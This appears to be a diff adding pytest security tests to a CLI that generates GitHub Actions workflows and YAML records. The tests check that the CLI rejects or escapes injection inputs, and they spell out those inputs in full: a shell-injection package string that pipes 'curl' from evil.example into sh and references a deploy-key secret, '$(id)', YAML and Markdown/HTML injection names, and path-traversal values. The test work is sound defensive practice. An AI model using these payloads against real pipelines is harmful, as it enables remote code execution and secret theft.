@@ -4,6 +4,7 @@ real files with real git, through the command line as CI calls it."""
 
 from __future__ import annotations
 
+import json
 import re
 import shutil
 from pathlib import Path
@@ -90,3 +91,74 @@ def test_inert_escapes_every_form_of_workflow_command() -> None:
     assert workflow_commands(said) == []
     assert said.splitlines()[1] == "  \\x3a:warning::y"
     assert one_line("a\nb\r\n::c") == "a\\nb\\x0d\\n::c"
+
+
+EVIL_NAME = "Evil\ncomplete: true\nmeetings: [{date: 2026-01-01}]\n# "
+EVIL_PACKAGE = "'; curl https://evil.example/x | sh; echo '${{ secrets.DEPLOY_KEY }}"
+
+
+@pytest.mark.parametrize(("option", "value"), [
+    ("--name", EVIL_NAME),
+    ("--name", "Styrgrupp\u202eevil"),  # a bidi override
+    ("--name", "   "),
+    ("--package", EVIL_PACKAGE),
+    ("--package", "vvgctl==0.1.0 ${{ github.token }}"),
+    ("--package", "vvgctl==0.1.0; curl x"),
+    ("--package", 'vvgctl; python_version >= "3.11"'),
+    ("--package", "vvgctl==0.1.0\n"),
+    ("--package", "vvgctl @ file:///etc/vvgctl.whl"),
+    ("--package", "http://example.org/vvgctl-0.1.0-py3-none-any.whl"),
+    ("--package", "https://token@example.org/vvgctl-0.1.0-py3-none-any.whl"),
+    ("--package", "../vvgctl-0.1.0-py3-none-any.whl"),
+    ("--package", "/tmp/vvgctl-0.1.0-py3-none-any.whl"),
+    ("--package", "$(id)"),
+    ("--organ", "sro\n"),
+    ("--organ", "sro\n/../x"),
+])
+def test_init_refuses_a_hostile_value_and_writes_nothing(tmp_path: Path, option: str,
+                                                        value: str) -> None:
+    top = tmp_path / "repo"
+    args = ["init", str(top), "--organ", "sro", option, value]
+    if option == "--organ":
+        args = ["init", str(top), option, value]
+    code, said = run(*args)
+    assert code == 2, said
+    assert not top.exists()
+
+
+@pytest.mark.parametrize("package", [
+    "vvgctl==0.1.0", "vvgctl>=0.1,<0.2", "vvgctl[extra]~=0.1",
+    "vvgctl @ https://example.org/vvgctl-0.1.0-py3-none-any.whl",
+    "vvgctl@https://example.org/vvgctl-0.1.0-py3-none-any.whl#sha256=ab12",
+    "https://example.org/dl/vvgctl-0.1.0-py3-none-any.whl",
+    "dist/vvgctl-0.1.0-py3-none-any.whl", "./wheels/vvgctl-0.1.0-py3-none-any.whl",
+])
+def test_init_takes_a_requirement_a_wheel_path_or_an_https_url(tmp_path: Path,
+                                                               package: str) -> None:
+    top = tmp_path / "repo"
+    code, said = run("init", str(top), "--organ", "sro", "--package", package)
+    assert code == 0, said
+    workflow = (top / ".github/workflows/minutes.yml").read_text(encoding="utf-8")
+    assert f"VVGCTL_PACKAGE: {json.dumps(package)}\n" in workflow
+
+
+def test_init_writes_a_name_as_data_not_markup(tmp_path: Path,
+                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    use_git_env(monkeypatch)
+    name = ('Styrgruppen "Hälsa" #1: [klicka](javascript:alert(1)) <img src=x> *fet* @all '
+            "\\ 'citat'")
+    top = tmp_path / "repo"
+    code, said = run("init", str(top), "--organ", "sro", "--name", name, "--year", "2026")
+    assert code == 0, said
+    assert run("check", str(top / "minutes"))[0] == 0
+    from vvgctl.source.yaml import load
+
+    organs, _ = load((top / "minutes/registry/organs.yaml").read_text(encoding="utf-8"))
+    assert organs["organs"][0]["name"] == name
+    for relative in ("schedule.yaml", "plan.yaml"):
+        data, _ = load((top / "minutes/sro/2026" / relative).read_text(encoding="utf-8"))
+        assert data["organ"] == "sro" and data.get("complete", "false") == "false"
+    heading = (top / "README.md").read_text(encoding="utf-8").splitlines()[0]
+    assert "](" not in heading.replace("\\](", "").replace("\\(", "")
+    assert "<img" not in heading.replace("\\<img", "") and "\\<img" in heading
+    assert "@\u2060all" in heading and "\\[klicka\\]" in heading
